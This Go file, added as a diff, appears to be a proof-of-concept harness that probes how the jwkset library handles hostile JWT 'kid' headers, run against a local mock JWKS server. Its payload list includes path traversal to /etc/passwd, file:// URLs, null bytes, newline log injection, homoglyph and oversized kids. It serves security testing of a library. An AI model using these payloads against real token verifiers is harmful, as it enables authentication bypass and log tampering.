@@ -0,0 +1,373 @@
+package main
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"sync/atomic"
+	"time"
+
+	"github.com/MicahParks/jwkset"
+	"github.com/golang-jwt/jwt/v5"
+)
+
+// maxErrorLen is the error size above which an error is reported as echoing the kid into logs
+const maxErrorLen = 1024
+
+// scanKeys is the size of the JWKS used to measure the cost of a kid miss
+const scanKeys = 2000
+
+// jwkEntry is one key served by the mock JWKS server. Name identifies the entry even when
+// several entries share a kid or have none
+type jwkEntry struct {
+	Name   string
+	KID    string
+	Secret []byte
+}
+
+func (e jwkEntry) marshal() map[string]string {
+	m := map[string]string{
+		"kty": "oct",
+		"alg": "HS256",
+		"k":   base64.RawURLEncoding.EncodeToString(e.Secret),
+	}
+	if e.KID != "" {
+		m["kid"] = e.KID
+	}
+	return m
+}
+
+// makeJWKS creates a JWKS JSON document from the entries, in order
+func makeJWKS(entries []jwkEntry) []byte {
+	keys := make([]map[string]string, len(entries))
+	for i, e := range entries {
+		keys[i] = e.marshal()
+	}
+	b, err := json.Marshal(map[string]any{"keys": keys})
+	if err != nil {
+		panic(fmt.Sprintf("json.Marshal: %v", err))
+	}
+	return b
+}
+
+func newSecret() []byte {
+	b := make([]byte, 32)
+	if _, err := rand.Read(b); err != nil {
+		panic(fmt.Sprintf("rand.Read: %v", err))
+	}
+	return b
+}
+
+// kidScenario is one token with a hostile kid header
+type kidScenario struct {
+	Category string
+	Name     string
+	// KID is the kid header value, NoKID leaves the header out
+	KID   any
+	NoKID bool
+	// SignWith names the entry the token is signed with
+	SignWith string
+	// Want names the entry the kid should select, "" if no key should be selected
+	Want string
+}
+
+// kidResult is what happened when a scenario's token was parsed
+type kidResult struct {
+	Scenario kidScenario
+	Selected string
+	Accepted bool
+	Err      error
+	Duration time.Duration
+	Fetches  int64
+	Findings []string
+}
+
+// storageKeyfunc looks the kid up in the storage and checks the JWK alg, like the keyfunc
+// package does for jwkset storage
+func storageKeyfunc(ctx context.Context, store jwkset.Storage) jwt.Keyfunc {
+	return func(token *jwt.Token) (any, error) {
+		kidInter, ok := token.Header["kid"]
+		if !ok {
+			return nil, errors.New("could not find kid in JWT header")
+		}
+		kid, ok := kidInter.(string)
+		if !ok {
+			return nil, fmt.Errorf("could not convert kid in JWT header to string, got %T", kidInter)
+		}
+		jwk, err := store.KeyRead(ctx, kid)
+		if err != nil {
+			return nil, fmt.Errorf("could not read JWK from storage: %w", err)
+		}
+		if alg := jwk.Marshal().ALG.String(); alg != "" && alg != token.Method.Alg() {
+			return nil, fmt.Errorf("JWK alg %q does not match JWT alg %q", alg, token.Method.Alg())
+		}
+		return jwk.Key(), nil
+	}
+}
+
+func scenarios() []kidScenario {
+	var s []kidScenario
+	add := func(category, name string, kid any, signWith, want string) {
+		s = append(s, kidScenario{Category: category, Name: name, KID: kid, SignWith: signWith, Want: want})
+	}
+
+	add("control", "real kid", "signing-key", "signing-key", "signing-key")
+
+	s = append(s, kidScenario{Category: "empty", Name: "no kid header", NoKID: true, SignWith: "unnamed"})
+	add("empty", "empty string", "", "unnamed", "")
+	add("empty", "null", nil, "unnamed", "")
+	add("empty", "number 0", 0, "signing-key", "")
+	add("empty", "array", []string{"signing-key"}, "signing-key", "")
+	add("empty", "object", map[string]string{"$ne": ""}, "signing-key", "")
+
+	for _, n := range []int{256, 64 << 10, 1 << 20} {
+		add("long", fmt.Sprintf("%d byte kid", n), strings.Repeat("k", n), "signing-key", "")
+	}
+	add("long", "real kid padded to 64 KiB", "signing-key"+strings.Repeat(" ", 64<<10), "signing-key", "")
+
+	for _, kid := range []string{
+		"../signing-key",
+		"../../../../etc/passwd",
+		"..%2f..%2fsigning-key",
+		"/signing-key",
+		"signing-key/../signing-key",
+		"./signing-key",
+		`..\..\keys\signing-key`,
+		"file:///etc/passwd",
+		"signing-key\x00.pem",
+		"signing-key\nlevel=info msg=\"token accepted\"",
+	} {
+		add("traversal", fmt.Sprintf("%q", kid), kid, "signing-key", "")
+	}
+
+	for _, c := range []struct{ name, kid string }{
+		{"Cyrillic i", "signіng-key"},
+		{"Cyrillic s", "ѕigning-key"},
+		{"Unicode hyphen", "signing‐key"},
+		{"zero width space", "signing-key​"},
+		{"fullwidth", "ｓｉｇｎｉｎｇ-key"},
+		{"upper case", "Signing-Key"},
+		{"trailing space", "signing-key "},
+	} {
+		add("confusable", c.name, c.kid, "signing-key", "")
+	}
+
+	add("duplicate", "signed with the first dup entry", "dup", "dup#1", "")
+	add("duplicate", "signed with the second dup entry", "dup", "dup#2", "")
+
+	return s
+}
+
+func run(ctx context.Context, sc kidScenario, store jwkset.Storage, entries []jwkEntry, jwksURL string, fetches *atomic.Int64) kidResult {
+	result := kidResult{Scenario: sc}
+
+	var secret []byte
+	for _, e := range entries {
+		if e.Name == sc.SignWith {
+			secret = e.Secret
+		}
+	}
+	token := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{
+		"sub": "attacker@evil.com",
+		"exp": time.Now().Add(time.Hour).Unix(),
+	})
+	if !sc.NoKID {
+		token.Header["kid"] = sc.KID
+	}
+	signed, err := token.SignedString(secret)
+	if err != nil {
+		panic(fmt.Sprintf("SignedString: %v", err))
+	}
+
+	keyfunc := storageKeyfunc(ctx, store)
+	recording := func(token *jwt.Token) (any, error) {
+		key, err := keyfunc(token)
+		if b, ok := key.([]byte); ok {
+			for _, e := range entries {
+				if string(e.Secret) == string(b) {
+					result.Selected = e.Name
+				}
+			}
+		}
+		return key, err
+	}
+
+	before := fetches.Load()
+	start := time.Now()
+	_, result.Err = jwt.Parse(signed, recording, jwt.WithValidMethods([]string{"HS256"}))
+	result.Duration = time.Since(start)
+	result.Fetches = fetches.Load() - before
+	result.Accepted = result.Err == nil
+
+	if result.Selected != sc.Want {
+		selected := result.Selected
+		if selected == "" {
+			selected = "no key"
+		}
+		want := sc.Want
+		if want == "" {
+			want = "no key"
+		}
+		result.Findings = append(result.Findings, fmt.Sprintf("wrong-key: selected %s, expected %s", selected, want))
+	}
+	if result.Accepted && sc.Want == "" {
+		result.Findings = append(result.Findings, "wrong-key: token accepted")
+	}
+
+	if result.Err != nil {
+		msg := result.Err.Error()
+		kid, _ := sc.KID.(string)
+		for _, e := range entries {
+			if strings.Contains(msg, base64.RawURLEncoding.EncodeToString(e.Secret)) || strings.Contains(msg, string(e.Secret)) {
+				result.Findings = append(result.Findings, fmt.Sprintf("leak: error contains the secret of %s", e.Name))
+			}
+			if e.KID != "" && strings.Contains(msg, e.KID) && !strings.Contains(kid, e.KID) {
+				result.Findings = append(result.Findings, fmt.Sprintf("leak: error names kid %q", e.KID))
+			}
+		}
+		if u, err := url.Parse(jwksURL); err == nil && strings.Contains(msg, u.Host) {
+			result.Findings = append(result.Findings, "leak: error contains the JWKS host")
+		}
+		if strings.ContainsAny(msg, "\n\r\x00\x1b") {
+			result.Findings = append(result.Findings, "leak: error carries raw control characters from the kid")
+		}
+		if len(msg) > maxErrorLen {
+			result.Findings = append(result.Findings, fmt.Sprintf("echo: error repeats the kid, %d bytes end up in the caller's log", len(msg)))
+		}
+	}
+	if result.Fetches > 0 {
+		result.Findings = append(result.Findings, fmt.Sprintf("work: %d JWKS fetches triggered", result.Fetches))
+	}
+
+	return result
+}
+
+// missCost returns the average time of a KeyRead for a kid that is not in the storage
+func missCost(ctx context.Context, store jwkset.Storage) time.Duration {
+	const reads = 200
+	start := time.Now()
+	for i := 0; i < reads; i++ {
+		_, _ = store.KeyRead(ctx, fmt.Sprintf("missing-%d", i))
+	}
+	return time.Since(start) / reads
+}
+
+func newJWKSServer(documents map[string][]byte, fetches *atomic.Int64) *httptest.Server {
+	return httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, ok := documents[r.URL.Path]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		fetches.Add(1)
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(http.StatusOK)
+		_, _ = w.Write(body)
+	}))
+}
+
+func main() {
+	fmt.Println("=== JWKSET kid Header Abuse POC ===")
+	fmt.Println("Tokens with hostile kid values are verified through a keyfunc backed by")
+	fmt.Println("the storage from jwkset.NewStorageFromHTTP.")
+	fmt.Println()
+
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+
+	entries := []jwkEntry{
+		{Name: "signing-key", KID: "signing-key", Secret: newSecret()},
+		{Name: "dup#1", KID: "dup", Secret: newSecret()},
+		{Name: "dup#2", KID: "dup", Secret: newSecret()},
+		{Name: "unnamed", Secret: newSecret()},
+	}
+	small := make([]jwkEntry, 10)
+	large := make([]jwkEntry, scanKeys)
+	for i := range large {
+		large[i] = jwkEntry{Name: fmt.Sprintf("filler-%d", i), KID: fmt.Sprintf("filler-%d", i), Secret: newSecret()}
+	}
+	copy(small, large)
+
+	var fetches atomic.Int64
+	srv := newJWKSServer(map[string][]byte{
+		"/jwks.json":  makeJWKS(entries),
+		"/small.json": makeJWKS(small),
+		"/large.json": makeJWKS(large),
+	}, &fetches)
+	defer srv.Close()
+
+	storage := func(path string) jwkset.Storage {
+		u, err := url.Parse(srv.URL + path)
+		if err != nil {
+			panic(fmt.Sprintf("url.Parse: %v", err))
+		}
+		st, err := jwkset.NewStorageFromHTTP(u, jwkset.HTTPClientStorageOptions{
+			Client:             srv.Client(),
+			HTTPMethod:         http.MethodGet,
+			HTTPExpectedStatus: http.StatusOK,
+			Ctx:                ctx,
+		})
+		if err != nil {
+			panic(fmt.Sprintf("NewStorageFromHTTP: %v", err))
+		}
+		return st
+	}
+
+	fmt.Printf("[*] Mock JWKS server at %s\n", srv.URL)
+	fmt.Println("    /jwks.json: signing-key, dup (twice, different secrets), one key without kid")
+	fmt.Println()
+	st := storage("/jwks.json")
+
+	findings := map[string]int{}
+	category := ""
+	for _, sc := range scenarios() {
+		if sc.Category != category {
+			category = sc.Category
+			fmt.Printf("[*] %s\n", category)
+		}
+
+		result := run(ctx, sc, st, entries, srv.URL, &fetches)
+		verdict := "rejected"
+		if result.Accepted {
+			verdict = "ACCEPTED"
+		}
+		selected := result.Selected
+		if selected == "" {
+			selected = "-"
+		}
+		name := sc.Name
+		if len(name) > 40 {
+			name = name[:37] + "..."
+		}
+		fmt.Printf("    %-40s key=%-12s %-8s %10v\n", name, selected, verdict, result.Duration.Round(time.Microsecond))
+		for _, f := range result.Findings {
+			fmt.Printf("      🔥 %s\n", f)
+			findings[strings.SplitN(f, ":", 2)[0]]++
+		}
+	}
+
+	fmt.Printf("\n[*] Cost of a kid miss, %d vs %d keys\n", len(small), len(large))
+	smallCost := missCost(ctx, storage("/small.json"))
+	largeCost := missCost(ctx, storage("/large.json"))
+	fmt.Printf("    %d keys: %v per KeyRead\n", len(small), smallCost)
+	fmt.Printf("    %d keys: %v per KeyRead\n", len(large), largeCost)
+	if largeCost > 20*smallCost {
+		fmt.Println("      🔥 work: every unknown kid scans the whole storage")
+		findings["work"]++
+	}
+
+	fmt.Println("\n" + strings.Repeat("=", 70))
+	if len(findings) == 0 {
+		fmt.Println("✓ No kid handling issues detected")
+	} else {
+		fmt.Printf("🔥 Findings: wrong-key=%d leak=%d echo=%d work=%d\n", findings["wrong-key"], findings["leak"], findings["echo"], findings["work"])
+	}
+	fmt.Println(strings.Repeat("=", 70))
+}